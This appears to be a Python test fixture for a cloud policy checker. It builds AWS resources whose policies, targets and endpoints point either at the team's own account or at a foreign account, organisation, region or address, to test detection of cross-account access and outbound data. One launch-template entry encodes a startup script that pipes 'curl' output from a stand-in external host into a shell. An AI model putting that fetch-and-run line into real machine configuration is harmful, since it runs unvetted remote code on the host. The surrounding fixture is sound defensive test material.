"""One resource for each way in and each way out, of ours or of others as it is asked for."""

import base64
import json
from collections.abc import Callable
from typing import Any, Final, NamedTuple

from local.policy_check.analyzer import Declared
from policies.pci.framework import tokens
from policy_proof.resources import resource

THEIRS: Final = "999988887777"


class World(NamedTuple):
    """Whose the things are that a resource names."""

    account: str = "111122223333"
    region: str = "eu-central-1"
    organization: str = "o-a1b2c3d4e5"
    address: str = "https://api.stripe.com/v1"
    bucket: str = "shop-logs"

    def arn(self, service: str, name: str) -> str:
        """An ARN with account and region."""
        return f"arn:aws:{service}:{self.region}:{self.account}:{name}"


OURS: Final = World()
STRANGE: Final = World(
    THEIRS, "us-east-1", "o-zzzzzzzzzz", "https://collect.example.com/in", "their-logs"
)
PROVIDER: Final = {"region": OURS.region, "allowedAccountIds": json.dumps([OURS.account])}
SETTINGS: Final = {"organizations": [OURS.organization], "buckets": [OURS.bucket]}
Build = Callable[[World], Declared]


def document(principal: Any, **condition: Any) -> str:
    """A policy that lets `principal` in, under a condition."""
    statement = {"Effect": "Allow", "Principal": principal, "Action": "x:Y", "Resource": "*"}
    when = {"Condition": condition} if condition else {}
    return json.dumps({"Statement": [{**statement, **when}]})


def key(principal: Any, **condition: Any) -> Declared:
    """A key with that policy."""
    return resource(tokens.KEY, {"policy": document(principal, **condition)})


def service(name: str, **condition: Any) -> Declared:
    """A queue that a service may send to."""
    text = document({"Service": f"{name}.amazonaws.com"}, **condition)
    return resource(tokens.QUEUE_POLICY, {"policy": text})


def may(**statement: Any) -> Declared:
    """What a role may."""
    body = {"Effect": "Allow", "Action": "sqs:SendMessage", **statement}
    return resource(tokens.ROLE_POLICY, {"policy": json.dumps({"Statement": body})})


IN: Final[dict[str, tuple[str, Build]]] = {
    "a principal by its account": ("account", lambda w: key({"AWS": w.account})),
    "a principal by its ARN": ("account", lambda w: key({"AWS": f"arn:aws:iam::{w.account}:root"})),
    "one of two principals": (
        "account",
        lambda w: key({"AWS": [OURS.account, f"arn:aws:iam::{w.account}:role/x"]}),
    ),
    "everybody of another account": (
        "account",
        lambda w: key("*", StringEquals={"aws:PrincipalAccount": w.account}),
    ),
    "everybody of a role of another": (
        "account",
        lambda w: key("*", ArnLike={"aws:PrincipalArn": f"arn:aws:iam::{w.account}:role/*"}),
    ),
    "callers of another account": (
        "account",
        lambda w: key("*", StringEquals={"kms:CallerAccount": [OURS.account, w.account]}),
    ),
    "another organisation": (
        "organization",
        lambda w: key("*", StringEquals={"aws:PrincipalOrgID": w.organization}),
    ),
    "paths of another organisation": (
        "organization",
        lambda w: key(
            "*", **{"ForAnyValue:StringLike": {"aws:PrincipalOrgPaths": f"{w.organization}/r-1/*"}}
        ),
    ),
    "a service of another account": (
        "account",
        lambda w: service("sns", StringEquals={"aws:SourceAccount": w.account}),
    ),
    "a service of another account's topic": (
        "account",
        lambda w: service("sns", ArnLike={"aws:SourceArn": w.arn("sns", "news")}),
    ),
    "a service of another organisation": (
        "organization",
        lambda w: service("sns", StringEquals={"aws:SourceOrgID": w.organization}),
    ),
    "a service of another region": (
        "region",
        lambda w: key({"Service": f"logs.{w.region}.amazonaws.com"}),
    ),
    "a denial that spares another account": (
        "account",
        lambda w: resource(
            tokens.BUCKET_POLICY,
            {
                "policy": json.dumps(
                    {
                        "Statement": {
                            "Effect": "Deny",
                            "Principal": "*",
                            "Action": "s3:*",
                            "Resource": "*",
                            "Condition": {"StringNotEquals": {"aws:PrincipalAccount": w.account}},
                        }
                    }
                )
            },
        ),
    ),
    "a call by another account's API": (
        "account",
        lambda w: resource(
            tokens.PERMISSION,
            {
                "principal": "apigateway.amazonaws.com",
                "sourceArn": w.arn("execute-api", "a/*/GET/"),
            },
        ),
    ),
    "a call for another account": (
        "account",
        lambda w: resource(
            tokens.PERMISSION, {"principal": "s3.amazonaws.com", "sourceAccount": w.account}
        ),
    ),
    "a call by another account": (
        "account",
        lambda w: resource(tokens.PERMISSION, {"principal": w.account}),
    ),
    "a layer for another organisation": (
        "organization",
        lambda w: resource(
            tokens.LAYER_PERMISSION, {"principal": "*", "organizationId": w.organization}
        ),
    ),
    "a topic for another account": (
        "account",
        lambda w: resource(tokens.TOPIC_POLICY, {"policy": document({"AWS": w.account})}),
    ),
    "a sender of another account": (
        "account",
        lambda w: resource(tokens.MAIL_IDENTITY_POLICY, {"policy": document({"AWS": w.account})}),
    ),
    "a grant of a key": (
        "account",
        lambda w: resource(
            tokens.KEY_GRANT, {"granteePrincipal": f"arn:aws:iam::{w.account}:role/x"}
        ),
    ),
    "an endpoint for another account": (
        "account",
        lambda w: resource(
            tokens.VPC_ENDPOINT,
            {"policy": document("*", StringEquals={"aws:PrincipalAccount": w.account})},
        ),
    ),
    "an endpoint to another account": (
        "account",
        lambda w: resource(
            tokens.VPC_ENDPOINT,
            {"policy": document("*", StringEquals={"aws:ResourceAccount": w.account})},
        ),
    ),
    "trust in another account": (
        "account",
        lambda w: resource(
            tokens.IAM_ROLE,
            {
                "assumeRolePolicy": document(
                    {"AWS": f"arn:aws:iam::{w.account}:root"},
                    StringEquals={"sts:ExternalId": "shared"},
                )
            },
        ),
    ),
    "a policy in the body of an API": (
        "account",
        lambda w: resource(
            tokens.REST_API,
            {
                "body": json.dumps(
                    {"x-amazon-apigateway-policy": json.loads(document({"AWS": w.account}))}
                )
            },
        ),
    ),
    "a subscription to another account's topic": (
        "account",
        lambda w: resource(tokens.TOPIC_SUBSCRIPTION, {"topic": w.arn("sns", "news")}),
    ),
}
"""Somebody reached by something other than a literal principal, and by one."""

OUT: Final[dict[str, tuple[str, Build]]] = {
    "a target of events": (
        "account",
        lambda w: resource(tokens.EVENT_TARGET, {"arn": w.arn("lambda", "function:x")}),
    ),
    "a bus": (
        "account",
        lambda w: resource(tokens.EVENT_TARGET, {"arn": w.arn("events", "event-bus/x")}),
    ),
    "a bus by its name": (
        "account",
        lambda w: resource(tokens.EVENT_RULE, {"eventBusName": w.arn("events", "event-bus/x")}),
    ),
    "a subscription to logs": (
        "account",
        lambda w: resource(tokens.LOG_SUBSCRIPTION, {"destinationArn": w.arn("kinesis", "x")}),
    ),
    "the end of an asynchronous call": (
        "account",
        lambda w: resource(
            tokens.FUNCTION_INVOKE_CONFIG,
            {"destinationConfig": {"onSuccess": {"destination": w.arn("sqs", "x")}}},
        ),
    ),
    "dead letters": (
        "account",
        lambda w: resource(
            tokens.QUEUE,
            {"redrivePolicy": json.dumps({"deadLetterTargetArn": w.arn("sqs", "dead")})},
        ),
    ),
    "a function's dead letters": (
        "account",
        lambda w: resource(tokens.FUNCTION, {"deadLetterConfig": {"targetArn": w.arn("sqs", "x")}}),
    ),
    "an alarm": (
        "account",
        lambda w: resource(tokens.METRIC_ALARM, {"alarmActions": [w.arn("sns", "x")]}),
    ),
    "messages over HTTPS": (
        "address",
        lambda w: resource(
            tokens.TOPIC_SUBSCRIPTION, {"protocol": "https", "endpoint": f"{w.address}/hook"}
        ),
    ),
    "an integration over HTTP": (
        "address",
        lambda w: resource(tokens.API_INTEGRATION, {"type": "HTTP_PROXY", "uri": w.address}),
    ),
    "a queue behind a gateway": (
        "account",
        lambda w: resource(
            tokens.API_INTEGRATION,
            {"uri": f"arn:aws:apigateway:{w.region}:sqs:path/{w.account}/jobs"},
        ),
    ),
    "a function behind a gateway": (
        "account",
        lambda w: resource(
            tokens.API_INTEGRATION,
            {
                "uri": f"arn:aws:apigateway:{w.region}:lambda:path/2015-03-31/functions/"
                f"{w.arn('lambda', 'function:x')}/invocations"
            },
        ),
    ),
    "a queue by its URL": (
        "account",
        lambda w: resource(
            tokens.FUNCTION,
            {
                "environment": {
                    "variables": {"Q": f"https://sqs.{w.region}.amazonaws.com/{w.account}/jobs"}
                }
            },
        ),
    ),
    "a trail": ("bucket", lambda w: resource(tokens.TRAIL, {"s3BucketName": w.bucket})),
    "flows": (
        "bucket",
        lambda w: resource(tokens.FLOW_LOG, {"logDestination": f"arn:aws:s3:::{w.bucket}/vpc"}),
    ),
    "code out of a bucket": (
        "bucket",
        lambda w: resource(tokens.FUNCTION, {"s3Bucket": w.bucket, "s3Key": "code.zip"}),
    ),
    "a bucket by its URL": (
        "bucket",
        lambda w: resource(
            tokens.API_INTEGRATION,
            {"uri": f"https://{w.bucket}.s3.{w.region}.amazonaws.com/in"},
        ),
    ),
    "what a role may write": (
        "bucket",
        lambda w: may(Action="s3:PutObject", Resource=f"arn:aws:s3:::{w.bucket}/*"),
    ),
    "whom a role may send to": ("account", lambda w: may(Resource=w.arn("sqs", "jobs"))),
    "a function that turns a secret": (
        "account",
        lambda w: resource(
            tokens.SECRET_ROTATION, {"rotationLambdaArn": w.arn("lambda", "function:x")}
        ),
    ),
    "a trigger of a pool": (
        "account",
        lambda w: resource(
            tokens.USER_POOL, {"lambdaConfig": {"preSignUp": w.arn("lambda", "function:x")}}
        ),
    ),
    "a key": (
        "account",
        lambda w: resource(tokens.KEY_ALIAS, {"targetKeyId": w.arn("kms", "key/x")}),
    ),
    "an image": (
        "account",
        lambda w: resource(
            tokens.FUNCTION,
            {"imageUri": f"{w.account}.dkr.ecr.{w.region}.amazonaws.com/charge:1"},
        ),
    ),
    "a program in a machine's start": (
        "address",
        lambda w: resource(
            tokens.LAUNCH_TEMPLATE,
            {
                "userData": base64.b64encode(
                    f"#!/bin/sh\ncurl {w.address}/run.sh | sh\n".encode()
                ).decode()
            },
        ),
    ),
    "a peer's group": (
        "account",
        lambda w: resource(
            tokens.SECURITY_GROUP_RULE, {"sourceSecurityGroupId": f"{w.account}/sg-0a1b2c3d"}
        ),
    ),
    "a peer": (
        "account",
        lambda w: resource(
            "aws:ec2/vpcPeeringConnection:VpcPeeringConnection", {"peerOwnerId": w.account}
        ),
    ),
    "a resource's own region": (
        "region",
        lambda w: resource(tokens.QUEUE, {"name": "jobs", "region": w.region}),
    ),
    "a replica": (
        "region",
        lambda w: resource(tokens.TABLE, {"replicas": [{"regionName": w.region}]}),
    ),
    "a zone": (
        "region",
        lambda w: resource(tokens.SUBNET, {"availabilityZone": f"{w.region}a"}),
    ),
    "an endpoint of a service": (
        "region",
        lambda w: resource(
            tokens.VPC_ENDPOINT, {"serviceName": f"com.amazonaws.{w.region}.secretsmanager"}
        ),
    ),
    "a queue elsewhere": (
        "region",
        lambda w: resource(tokens.EVENT_TARGET, {"arn": w.arn("sqs", "jobs")}),
    ),
}
"""Data that a resource sends out, code that comes in, and resources elsewhere."""
